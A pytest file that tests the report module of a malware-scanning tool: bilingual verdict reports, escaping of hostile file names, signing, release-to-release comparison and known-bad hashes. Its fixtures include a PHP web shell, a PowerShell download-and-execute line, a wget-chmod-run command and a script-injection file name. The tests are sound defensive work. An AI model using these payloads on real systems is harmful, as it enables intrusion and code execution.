"""The report: every verdict in both languages and every form, hostile names as text, and what is new since a
release."""

from __future__ import annotations

import json
import re
from pathlib import Path

import msgspec
import pytest

from detectors.software import report
from detectors.software.analysis import load
from detectors.software.budget import PROFILES
from detectors.software.bundle import files, signed
from detectors.software.known import read_hashes
from detectors.software.report import Subject
from detectors.software.verdict import Context, verdict
from fengsui.errors import BadRule
from fengsui.fonts import characters
from fengsui.signing import Signer, verify_bundle
from tests.unit.detectors.software.test_unpack import zipped

ANALYSIS = load(Path("rules/yara"))
AT = 1_764_000_000_000_000
SHELL = b"<?php eval(base64_decode($_POST['x'])); system($_GET['c']); ?>"
HOSTILE = "<script>alert(1)</script>#read(\"/etc/passwd\")$x$\u202e.zip"


def facts(content: bytes, name: str = "x.zip"):
    return ANALYSIS.facts(memoryview(content), name, PROFILES["package"])


MADE = {
    "malicious": lambda: zipped({"a.php": SHELL, "b.ps1": b"IEX (New-Object Net.WebClient).DownloadString('http://x')"}),
    "suspicious": lambda: zipped({"a.sh": b"wget http://198.51.100.7/x; chmod 777 x; ./x"}),
    "incomplete": lambda: zipped({"a.7z": b"7z\xbc\xaf\x27\x1c" + bytes(90)}),
    "clean": lambda: zipped({"a.txt": b"text"}),
}  # fmt: skip


@pytest.mark.parametrize("lang", ["en", "zh"])
@pytest.mark.parametrize("word", MADE)
def test_each_verdict_has_its_report_in_both_languages(word, lang):
    found = facts(MADE[word]())
    v = verdict(found)
    assert v.word == word
    made = files(Subject("x.zip", AT, "Example Bank", "s1"), found, v, lang)
    assert sorted(made) == ["bom.cdx.json", "report.html", "report.json", "report.pdf", "report.sarif"]
    content, page = json.loads(made["report.json"]), made["report.html"].decode()
    assert content["verdict"] == word
    assert content["do"]
    assert content["verdict_text"] in page
    assert found.sha256 in page
    assert made["report.pdf"].startswith(b"%PDF-")
    assert b"/FontFile" in made["report.pdf"]  # the font is inside
    has_chinese = bool(re.search("[\u4e00-\u9fff]", page))
    assert has_chinese is (lang == "zh")
    shares = sum(share for _, share in v.reasons)
    assert sum(r["share"] for r in content["reasons"]) == pytest.approx(shares, abs=0.1)


def test_a_hostile_name_is_text_in_every_form():
    found = facts(zipped({HOSTILE: SHELL}), HOSTILE)
    made = files(Subject(HOSTILE, AT), found, verdict(found), "en")
    page = made["report.html"].decode()
    assert "<script" not in page
    assert "&lt;script&gt;" in page
    assert "\u202e" not in page
    assert b"root:" not in made["report.pdf"]
    assert json.loads(made["bom.cdx.json"])["metadata"]["component"]["name"].startswith("<script>")


def test_what_the_font_lacks_is_shown_by_its_number():
    assert "汉" in characters()
    assert "龘" not in characters()
    assert report._drawable({"a": ["汉龘x"]}) == {"a": ["汉[U+9F98]x"]}
    texts = json.dumps([report._WORDS, report._MEANS, report._DO], ensure_ascii=False)
    assert {c for c in texts if c not in characters() and c not in "\n "} == set()


def test_the_same_is_made_twice_and_its_signature_holds(tmp_path):
    found = facts(MADE["malicious"]())
    signer = Signer.of(tmp_path / "k.pem")
    made = [signed(Subject("x.zip", AT), found, verdict(found), "zh", signer) for _ in range(2)]
    assert made[0] == made[1]
    assert verify_bundle(made[0], signer.public)["files"].keys() == files(Subject("x.zip", AT), found, verdict(found),
                                                                          "zh").keys()


def package(**scripts: str) -> bytes:
    text = json.dumps({"name": "p", "version": "1", "scripts": scripts}).encode()
    return zipped({"package/package.json": text, "package/index.js": b"module.exports = 1;"})


def test_what_a_release_can_that_the_one_before_could_not_weighs():
    before = facts(package())
    after = facts(package(postinstall="node -e 'x'"))
    alone, known = verdict(after), verdict(after, Context(previous=before))
    assert "since.hook" in {e.rule for e, _ in known.reasons}
    assert known.probability > alone.probability
    older = msgspec.structs.replace(before, analysis="another")  # a rule that is new here was not there to find it
    assert not [e for e, _ in verdict(after, Context(previous=older)).reasons if e.rule.startswith("since.")]
    same = verdict(after, Context(previous=after))
    assert not [e for e, _ in same.reasons if e.rule.startswith("since.")]
    web = verdict(facts(zipped({"a.php": SHELL})), Context(previous=facts(zipped({"a.php": b"<?php echo 1;"}))))
    assert "since.ability" in {e.rule for e, _ in web.reasons}


def test_a_hash_that_is_known_is_malicious_wherever_it_lies(tmp_path):
    import hashlib

    inner = b"nothing that any rule would find"
    listed = tmp_path / "bad.txt"
    listed.write_text(f"# from a colleague\n{hashlib.sha256(inner).hexdigest().upper()}  Family.X\n\n")
    context = Context(known_bad=read_hashes([listed]))
    v = verdict(facts(zipped({"deep/a.bin": inner})), context)
    assert v.word == "malicious"
    assert v.reasons[0][0].matched == "Family.X"
    listed.write_text("abc\n")
    with pytest.raises(BadRule, match="line 1"):
        read_hashes([listed])
